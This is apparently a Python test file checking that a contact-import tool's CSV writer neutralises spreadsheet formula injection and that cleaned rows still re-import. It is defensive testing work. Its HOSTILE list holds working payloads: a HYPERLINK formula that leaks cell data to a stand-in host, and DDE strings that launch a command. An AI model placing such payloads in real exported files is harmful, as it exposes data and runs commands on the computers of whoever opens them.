"""CSV that Patron writes is safe to open in a spreadsheet (OWASP's CSV-injection rule), and still round-trips."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from segments.csv_output import FORMULA_STARTS, SafeWriter, safe_cell
from segments.imports import RejectsFile, import_contacts
from segments.models import Contact

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def written(rows: list[list]) -> list[list[str]]:
    """``rows`` through SafeWriter, read back with the csv module."""
    buffer = io.StringIO(newline="")
    writer = SafeWriter(buffer)
    for row in rows:
        writer.writerow(row)
    return list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


def test_formula_cells_read_back_with_a_leading_quote_and_numbers_as_they_are():
    cells = [*HOSTILE, "-5", "+3.25", "-0.5", "ana@example.com", "", "'quoted", 7, -3]
    assert written([cells]) == [
        ["'" + cell for cell in HOSTILE] + ["-5", "+3.25", "-0.5", "ana@example.com", "", "'quoted", "7", "-3"]
    ]


@given(st.text(st.characters(exclude_categories=("Cs",))))
def test_no_cell_read_back_starts_a_formula(value):
    (row,) = written([[value, "x"]]) if value else [[value, "x"]]
    cell = row[0]
    assert cell in (value, "'" + value)
    if value.startswith(FORMULA_STARTS):
        assert cell == "'" + value or value.lstrip("+-").replace(".", "", 1).isdigit()
    else:
        assert cell == value
    assert safe_cell(value) == cell


def test_hyperlink_cells_in_the_rejects_file_are_neutralized_and_a_fixed_row_reimports(session, tmp_path):
    source = tmp_path / "customers.csv"
    with open(source, "w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["email", "first_name", "attr:balance"])
        writer.writerow(["ana@example.com", "Ana", "10"])
        for index, cell in enumerate(HOSTILE):
            writer.writerow([f"=not-an-address-{index}", cell, "1"])
        writer.writerow(["carl at example.com", "Carl", "-5"])
    rejects_path = tmp_path / "rejects.csv"
    with RejectsFile(rejects_path) as rejects:
        summary = import_contacts(session, source, rejects=rejects)
    session.commit()
    assert (summary.created, summary.rejected) == (1, len(HOSTILE) + 1)
    with open(rejects_path, newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["first_name"] for row in rows[:-1]] == ["'" + cell for cell in HOSTILE]
    assert all(row["email"].startswith("'=not-an-address-") for row in rows[:-1])
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row.values() if cell != "-5")
    # Fix the last row, drop the line and reason columns, import it again: the negative number survives.
    fixed = tmp_path / "fixed.csv"
    with open(fixed, "w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["email", "first_name", "attr:balance"])
        writer.writerow(["carl@example.com", rows[-1]["first_name"], rows[-1]["attr:balance"]])
    summary = import_contacts(session, fixed)
    session.commit()
    assert (summary.created, summary.rejected) == (1, 0)
    carl = session.scalar(select(Contact).where(Contact.email == "carl@example.com"))
    assert (carl.first_name, carl.attributes) == ("Carl", {"balance": -5})
